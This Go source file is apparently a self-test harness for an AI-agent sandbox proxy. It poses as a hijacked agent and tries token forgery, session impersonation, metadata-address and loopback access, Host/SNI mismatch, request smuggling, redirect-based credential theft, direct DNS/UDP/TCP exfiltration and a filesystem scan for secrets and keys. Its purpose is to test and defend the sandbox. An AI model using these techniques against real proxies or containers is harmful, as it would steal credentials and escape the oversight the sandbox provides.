// Package attacker is the hostile agent `clauderon selftest` runs inside a
// real session container. It tries, one case at a time, every way we know
// for a hijacked agent to reach around the proxy or trick it into handing
// out a credential, and reports each case as blocked or LEAKED.
//
// The clauderon binary itself is the attacker: `clauderon selftest` copies
// it into a FROM scratch image under the agents' names, and main runs Main
// when it is started as "claude" in a session named selftest-*. Its
// instructions arrive as JSON in the prompt (the last argument).
package attacker

import (
	"bufio"
	"context"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"time"
)

// Config is what the host side tells the attacker.
type Config struct {
	Idle         bool     `json:"idle,omitempty"`    // exit at once (a victim session)
	CredHost     string   `json:"cred_host"`         // a host that gets a credential (the agent's provider)
	BaitHost     string   `json:"bait_host"`         // a host on no allow list of this session, on the victim's
	LoopbackName string   `json:"loopback_name"`     // a name on this session's allow list that resolves to loopback
	OtherName    string   `json:"other_name"`        // a live session whose allow list holds BaitHost
	DeadToken    string   `json:"dead_token"`        // a deleted session's token
	TCP          []string `json:"tcp"`               // host:port targets that must not answer (host bait, outside)
	UDP          []string `json:"udp"`               // host:port UDP echo targets that must not answer
	DNSServers   []string `json:"dns_servers"`       // resolvers to query directly
	DNSName      string   `json:"dns_name"`          // an exfiltration name to resolve
	SecretHashes []string `json:"secret_hashes"`     // hex SHA-256 of every real secret
	Gateway      string   `json:"gateway"`           // the proxy's address
	ScanRoots    []string `json:"scan_roots"`        // where to look for secrets; default "/"
	Timeout      string   `json:"timeout,omitempty"` // per network attempt; default 5s
}

// Result is one case's outcome, printed as "SELFTEST {json}".
type Result struct {
	Case    string `json:"case"`
	Blocked bool   `json:"blocked"`
	Detail  string `json:"detail"`
}

// LinePrefix marks result lines in the container's output.
const LinePrefix = "SELFTEST "

// Invoked reports whether this process is the attacker: started as claude
// in a selftest session.
func Invoked() bool {
	return filepath.Base(os.Args[0]) == "claude" && strings.HasPrefix(os.Getenv("CLAUDERON_SESSION"), "selftest-")
}

// Main runs every case and prints one line each; the status is 0 even when
// something leaked (the host side judges). args are the agent's arguments.
func Main(args []string, out io.Writer) int {
	if len(args) == 0 {
		fmt.Fprintln(out, "attacker: no instructions")
		return 2
	}
	var cfg Config
	if err := json.Unmarshal([]byte(args[len(args)-1]), &cfg); err != nil {
		fmt.Fprintln(out, "attacker: bad instructions:", err)
		return 2
	}
	if cfg.Idle {
		return 0
	}
	a, err := newAttack(cfg)
	if err != nil {
		fmt.Fprintln(out, "attacker:", err)
		return 2
	}
	for _, c := range a.cases() {
		r := Result{Case: c.name}
		r.Blocked, r.Detail = c.run()
		b, _ := json.Marshal(r)
		fmt.Fprintln(out, LinePrefix+string(b))
	}
	return 0
}

type attack struct {
	cfg      Config
	proxy    *url.URL // from HTTPS_PROXY, with our token
	token    string
	roots    *x509.CertPool
	timeout  time.Duration
	hashes   map[string]bool
	placeEnv map[string]string // placeholder values from the environment
}

func newAttack(cfg Config) (*attack, error) {
	pu, err := url.Parse(os.Getenv("HTTPS_PROXY"))
	if err != nil || pu.User == nil {
		return nil, fmt.Errorf("HTTPS_PROXY %q is not a proxy URL with a token", os.Getenv("HTTPS_PROXY"))
	}
	tok, _ := pu.User.Password()
	roots := x509.NewCertPool()
	if pem, err := os.ReadFile(os.Getenv("SSL_CERT_FILE")); err == nil {
		roots.AppendCertsFromPEM(pem)
	}
	to := 5 * time.Second
	if d, err := time.ParseDuration(cfg.Timeout); err == nil && d > 0 {
		to = d
	}
	a := &attack{cfg: cfg, proxy: pu, token: tok, roots: roots, timeout: to, hashes: map[string]bool{}, placeEnv: map[string]string{}}
	for _, h := range cfg.SecretHashes {
		a.hashes[strings.ToLower(h)] = true
	}
	for _, kv := range os.Environ() {
		k, v, _ := strings.Cut(kv, "=")
		if strings.Contains(v, "placeholder") {
			a.placeEnv[k] = v
		}
	}
	return a, nil
}

type testCase struct {
	name string
	run  func() (bool, string)
}

func (a *attack) cases() []testCase {
	c := a.cfg
	own := basic("selftest", a.token)
	cs := []testCase{
		{"proxy without a token", func() (bool, string) { return a.connectRefused(c.CredHost+":443", "", 407) }},
		{"proxy with a made-up token", func() (bool, string) {
			return a.connectRefused(c.CredHost+":443", basic("selftest", "x"+a.token[1:]), 407)
		}},
		{"proxy with a deleted session's token", func() (bool, string) {
			return a.connectRefused(c.CredHost+":443", basic("dead", c.DeadToken), 407)
		}},
		{"proxy as another session (its name, our token)", func() (bool, string) {
			return a.connectRefused(c.BaitHost+":443", basic(c.OtherName, a.token), 403)
		}},
		{"CONNECT to a host on no allow list", func() (bool, string) { return a.connectRefused(c.BaitHost+":443", own, 403) }},
		{"name resolving to loopback", func() (bool, string) { return a.connectRefused(c.LoopbackName+":443", own, 403) }},
	}
	for _, p := range []int{22, 25, 80, 3030, 8443} {
		cs = append(cs, testCase{"CONNECT to port " + strconv.Itoa(p), func() (bool, string) {
			return a.connectRefused(net.JoinHostPort(c.CredHost, strconv.Itoa(p)), own, 403)
		}})
	}
	for _, ip := range []string{"127.0.0.1", "[::1]", "169.254.169.254", c.Gateway} {
		if ip == "" {
			continue
		}
		cs = append(cs, testCase{"CONNECT to IP literal " + ip, func() (bool, string) { return a.connectRefused(ip+":443", own, 403) }})
	}
	cs = append(cs,
		testCase{"plain HTTP to the metadata address", func() (bool, string) {
			return a.plainRefused("http://169.254.169.254/latest/meta-data/", own)
		}},
		testCase{"Host header differs from SNI and CONNECT", func() (bool, string) {
			return a.intercepted(c.CredHost, c.CredHost, []string{"http/1.1"},
				"GET /v1/models HTTP/1.1\r\nHost: "+c.BaitHost+"\r\n\r\n", notSuccess)
		}},
		testCase{"SNI differs from CONNECT and Host", func() (bool, string) {
			return a.intercepted(c.CredHost, c.BaitHost, []string{"http/1.1"},
				"GET /v1/models HTTP/1.1\r\nHost: "+c.CredHost+"\r\n\r\n", notSuccess)
		}},
		testCase{"request smuggling (Content-Length and Transfer-Encoding)", func() (bool, string) {
			return a.intercepted(c.CredHost, c.CredHost, []string{"http/1.1"},
				"POST /v1/messages HTTP/1.1\r\nHost: "+c.CredHost+"\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: "+c.BaitHost+"\r\n\r\n", notSuccess)
		}},
		testCase{"HTTP/2 offered in ALPN", a.h2},
		testCase{"upstream echoes the credential back", a.echo},
		testCase{"redirect to another host", a.redirect},
	)
	for _, t := range c.TCP {
		cs = append(cs, testCase{"direct TCP to " + t, func() (bool, string) { return a.directTCP(t) }})
	}
	for _, u := range c.UDP {
		cs = append(cs, testCase{"direct UDP to " + u, func() (bool, string) { return a.directUDP(u) }})
	}
	for _, s := range c.DNSServers {
		cs = append(cs, testCase{"DNS query to " + s, func() (bool, string) { return a.dnsDirect(s) }})
	}
	cs = append(cs,
		testCase{"DNS through the container's resolver", a.dnsResolver},
		testCase{"IPv6 egress", a.ipv6},
		testCase{"secrets or private keys in the container", a.scan},
	)
	return cs
}

func basic(user, token string) string {
	return "Basic " + base64.StdEncoding.EncodeToString([]byte(user+":"+token))
}

// dialProxy opens a TCP connection to the proxy.
func (a *attack) dialProxy() (net.Conn, error) {
	c, err := net.DialTimeout("tcp", a.proxy.Host, a.timeout)
	if err == nil {
		c.SetDeadline(time.Now().Add(6 * a.timeout))
	}
	return c, err
}

// connect sends CONNECT authority and returns the status and the
// connection (open after a 200).
func (a *attack) connect(authority, auth string) (int, net.Conn, *bufio.Reader, error) {
	c, err := a.dialProxy()
	if err != nil {
		return 0, nil, nil, err
	}
	req := "CONNECT " + authority + " HTTP/1.1\r\nHost: " + authority + "\r\n"
	if auth != "" {
		req += "Proxy-Authorization: " + auth + "\r\n"
	}
	if _, err := io.WriteString(c, req+"\r\n"); err != nil {
		c.Close()
		return 0, nil, nil, err
	}
	br := bufio.NewReader(c)
	res, err := http.ReadResponse(br, &http.Request{Method: http.MethodConnect})
	if err != nil {
		c.Close()
		return 0, nil, nil, err
	}
	return res.StatusCode, c, br, nil
}

// connectRefused expects the proxy to answer want (a refusal).
func (a *attack) connectRefused(authority, auth string, want int) (bool, string) {
	code, c, _, err := a.connect(authority, auth)
	if err != nil {
		return false, "could not ask the proxy: " + err.Error()
	}
	c.Close()
	if code == want {
		return true, fmt.Sprintf("proxy answered %d", code)
	}
	if code >= 400 && code != http.StatusBadGateway && code != http.StatusGatewayTimeout {
		return true, fmt.Sprintf("proxy answered %d (expected %d)", code, want)
	}
	return false, fmt.Sprintf("proxy answered %d: it accepted the destination", code)
}

func (a *attack) plainRefused(target, auth string) (bool, string) {
	c, err := a.dialProxy()
	if err != nil {
		return false, err.Error()
	}
	defer c.Close()
	u, _ := url.Parse(target)
	io.WriteString(c, "GET "+target+" HTTP/1.1\r\nHost: "+u.Host+"\r\nProxy-Authorization: "+auth+"\r\n\r\n")
	res, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		return false, err.Error()
	}
	if res.StatusCode == http.StatusForbidden {
		return true, "proxy answered 403"
	}
	return false, fmt.Sprintf("proxy answered %d", res.StatusCode)
}

func notSuccess(code int) bool { return code < 200 || code > 299 }

// intercepted CONNECTs to connectHost, shakes hands with sni, sends raw and
// judges the first response's status with ok. A refused handshake is
// blocked too.
func (a *attack) intercepted(connectHost, sni string, alpn []string, raw string, ok func(int) bool) (bool, string) {
	code, c, br, err := a.connect(connectHost+":443", basic("selftest", a.token))
	if err != nil {
		return false, err.Error()
	}
	defer c.Close()
	if code != 200 {
		return true, fmt.Sprintf("CONNECT answered %d", code)
	}
	tc := tls.Client(&bufConn{Conn: c, r: br}, &tls.Config{ServerName: sni, RootCAs: a.roots, NextProtos: alpn})
	if err := tc.Handshake(); err != nil {
		return true, "TLS handshake refused: " + err.Error()
	}
	if _, err := io.WriteString(tc, raw); err != nil {
		return true, "write refused: " + err.Error()
	}
	res, err := http.ReadResponse(bufio.NewReader(tc), nil)
	if err != nil {
		return true, "no response: " + err.Error()
	}
	if ok(res.StatusCode) {
		return true, fmt.Sprintf("answered %d", res.StatusCode)
	}
	return false, fmt.Sprintf("answered %d: the request went through", res.StatusCode)
}

type bufConn struct {
	net.Conn
	r *bufio.Reader
}

func (b *bufConn) Read(p []byte) (int, error) { return b.r.Read(p) }

func (a *attack) h2() (bool, string) {
	code, c, br, err := a.connect(a.cfg.CredHost+":443", basic("selftest", a.token))
	if err != nil {
		return false, err.Error()
	}
	defer c.Close()
	if code != 200 {
		return true, fmt.Sprintf("CONNECT answered %d", code)
	}
	tc := tls.Client(&bufConn{Conn: c, r: br}, &tls.Config{ServerName: a.cfg.CredHost, RootCAs: a.roots, NextProtos: []string{"h2"}})
	if err := tc.Handshake(); err != nil {
		return true, "handshake refused: " + err.Error()
	}
	if p := tc.ConnectionState().NegotiatedProtocol; p == "h2" {
		return false, "the proxy negotiated h2 with the client"
	}
	// Speak h2 anyway: the proxy must not treat the preface as a request
	// that reaches the upstream.
	io.WriteString(tc, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
	res, err := http.ReadResponse(bufio.NewReader(tc), nil)
	if err != nil || notSuccess(res.StatusCode) {
		return true, "h2 not negotiated; the preface was refused"
	}
	return false, fmt.Sprintf("the h2 preface got %d", res.StatusCode)
}

// client is an agent's HTTPS client through the proxy, not following
// redirects.
func (a *attack) client() *http.Client {
	return &http.Client{
		Transport: &http.Transport{Proxy: http.ProxyURL(a.proxy), TLSClientConfig: &tls.Config{RootCAs: a.roots}},
		CheckRedirect: func(*http.Request, []*http.Request) error {
			return http.ErrUseLastResponse
		},
		Timeout: 6 * a.timeout,
	}
}

// echo sends a model request with the placeholder; whatever the upstream
// echoes back must be the placeholder, never the real credential.
func (a *attack) echo() (bool, string) {
	req, _ := http.NewRequest("POST", "https://"+a.cfg.CredHost+"/v1/messages", strings.NewReader(`{"model":"x","max_tokens":8,"messages":[{"role":"user","content":"echo"}]}`))
	for k, v := range a.placeEnv {
		if strings.Contains(k, "OAUTH") {
			req.Header.Set("Authorization", "Bearer "+v)
		} else if strings.Contains(k, "API_KEY") {
			req.Header.Set("X-Api-Key", v)
		}
	}
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Anthropic-Version", "2023-06-01")
	res, err := a.client().Do(req)
	if err != nil {
		return true, "request failed: " + err.Error()
	}
	body, _ := io.ReadAll(res.Body)
	res.Body.Close()
	var all strings.Builder
	for k, vs := range res.Header {
		all.WriteString(k + ": " + strings.Join(vs, ",") + "\n")
	}
	all.Write(body)
	if leaked, what := a.holdsSecret(all.String()); leaked {
		return false, "the response carried a real secret (" + what + ")"
	}
	if echoed := res.Header.Get("X-Fake-Credential"); echoed != "" {
		for _, v := range a.placeEnv {
			if echoed == v || strings.HasSuffix(echoed, " "+v) {
				return true, "the echoed credential is the placeholder"
			}
		}
		return false, "the upstream echoed a credential that is not our placeholder"
	}
	return true, fmt.Sprintf("answered %d; no secret in headers or body", res.StatusCode)
}

// redirect: a redirect the upstream sends comes back to us unfollowed, and
// following it to another host is refused by the egress policy.
func (a *attack) redirect() (bool, string) {
	res, err := a.client().Get("https://" + a.cfg.CredHost + "/redirect?to=https://" + a.cfg.BaitHost + "/steal")
	detail := ""
	target := "https://" + a.cfg.BaitHost + "/steal"
	if err == nil {
		res.Body.Close()
		if loc := res.Header.Get("Location"); res.StatusCode/100 == 3 && loc != "" {
			target, detail = loc, "the proxy passed the redirect back unfollowed; "
		}
	}
	req, _ := http.NewRequest("GET", target, nil)
	for _, v := range a.placeEnv {
		req.Header.Set("Authorization", "Bearer "+v)
		break
	}
	res, err = a.client().Do(req)
	if err != nil {
		if strings.Contains(err.Error(), "Forbidden") {
			return true, detail + "following it was refused (403)"
		}
		return true, detail + "following it failed: " + err.Error()
	}
	res.Body.Close()
	return false, fmt.Sprintf("%sfollowing it to %s answered %d", detail, target, res.StatusCode)
}

func (a *attack) directTCP(addr string) (bool, string) {
	c, err := net.DialTimeout("tcp", addr, a.timeout)
	if err != nil {
		return true, "connect failed: " + short(err)
	}
	c.Close()
	return false, "connected"
}

func (a *attack) directUDP(addr string) (bool, string) {
	c, err := net.DialTimeout("udp", addr, a.timeout)
	if err != nil {
		return true, "no route: " + short(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(a.timeout))
	if _, err := c.Write([]byte("clauderon-selftest-udp")); err != nil {
		return true, "send failed: " + short(err)
	}
	buf := make([]byte, 512)
	if n, err := c.Read(buf); err == nil && n > 0 {
		return false, "got an answer"
	}
	return true, "no answer (the host side checks nothing arrived)"
}

// dnsQuery is a minimal A query for name.
func dnsQuery(name string) []byte {
	q := []byte{0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, l := range strings.Split(strings.TrimSuffix(name, "."), ".") {
		q = append(q, byte(len(l)))
		q = append(q, l...)
	}
	return append(q, 0, 0, 1, 0, 1)
}

func (a *attack) dnsDirect(server string) (bool, string) {
	c, err := net.DialTimeout("udp", server, a.timeout)
	if err != nil {
		return true, "no route: " + short(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(a.timeout))
	c.Write(dnsQuery(a.cfg.DNSName))
	buf := make([]byte, 512)
	if n, err := c.Read(buf); err == nil && n > 0 {
		return false, "the resolver answered"
	}
	return true, "no answer"
}

func (a *attack) dnsResolver() (bool, string) {
	r := &net.Resolver{PreferGo: true}
	ctx, cancel := context.WithTimeout(context.Background(), 3*a.timeout)
	defer cancel()
	addrs, err := r.LookupHost(ctx, a.cfg.DNSName)
	if err != nil {
		return true, "lookup failed: " + short(err)
	}
	return false, "resolved to " + strings.Join(addrs, ",")
}

// ipv6 tries every IPv6 target, and reports any global IPv6 address the
// container holds.
func (a *attack) ipv6() (bool, string) {
	ifaces, _ := net.InterfaceAddrs()
	var global []string
	for _, ad := range ifaces {
		if ipn, ok := ad.(*net.IPNet); ok && ipn.IP.To4() == nil && ipn.IP.IsGlobalUnicast() {
			global = append(global, ipn.IP.String())
		}
	}
	for _, t := range a.cfg.TCP {
		if host, _, _ := net.SplitHostPort(t); strings.Contains(host, ":") {
			if c, err := net.DialTimeout("tcp6", t, a.timeout); err == nil {
				c.Close()
				return false, "connected to " + t
			}
		}
	}
	if len(global) > 0 {
		return true, "IPv6 connections failed, though the container holds " + strings.Join(global, ",")
	}
	return true, "no global IPv6 address; IPv6 connections failed"
}

var (
	tokenRE = regexp.MustCompile(`[A-Za-z0-9_\-]{16,}`)
	// keyRE matches a PEM private key with its body (so this program's
	// own text, which holds the pattern, does not).
	keyRE = regexp.MustCompile(`-----BEGIN [A-Z ]*PRIVATE KEY-----\r?\n[A-Za-z0-9+/=]{16}`)
)

// holdsSecret reports whether s contains a real secret (by hash) or a
// private key.
func (a *attack) holdsSecret(s string) (bool, string) {
	if keyRE.MatchString(s) {
		return true, "a PEM private key"
	}
	for _, m := range tokenRE.FindAllString(s, -1) {
		sum := sha256.Sum256([]byte(m))
		if a.hashes[hex.EncodeToString(sum[:])] {
			return true, "a real credential"
		}
	}
	return false, ""
}

// scan reads the environment and every readable file for a real secret or
// a private key (the proxy CA's key above all).
func (a *attack) scan() (bool, string) {
	if leaked, what := a.holdsSecret(strings.Join(os.Environ(), "\n")); leaked {
		return false, what + " in the environment"
	}
	roots := a.cfg.ScanRoots
	if len(roots) == 0 {
		roots = []string{"/"}
	}
	files := 0
	var found string
	for _, root := range roots {
		filepath.WalkDir(root, func(p string, d os.DirEntry, err error) error {
			if err != nil || found != "" {
				return nil
			}
			if d.IsDir() && (p == "/proc" || p == "/sys" || p == "/dev") {
				return filepath.SkipDir
			}
			if d.Type()&os.ModeSocket != 0 {
				found = "a socket " + p + " (the daemon's API or Docker's?)"
				return nil
			}
			if !d.Type().IsRegular() {
				return nil
			}
			if fi, err := d.Info(); err != nil || fi.Size() > 64<<20 {
				return nil
			}
			b, err := os.ReadFile(p)
			if err != nil {
				return nil
			}
			files++
			if leaked, what := a.holdsSecret(string(b)); leaked {
				found = what + " in " + p
			}
			return nil
		})
	}
	for _, p := range []string{"/proc/1/environ", "/proc/self/environ"} {
		if b, err := os.ReadFile(p); err == nil {
			if leaked, what := a.holdsSecret(strings.ReplaceAll(string(b), "\x00", "\n")); leaked && found == "" {
				found = what + " in " + p
			}
		}
	}
	if found != "" {
		return false, found
	}
	return true, fmt.Sprintf("%d files and the environment hold no secret and no private key", files)
}

func short(err error) string {
	s := err.Error()
	if i := strings.LastIndex(s, ": "); i >= 0 {
		s = s[i+2:]
	}
	return s
}
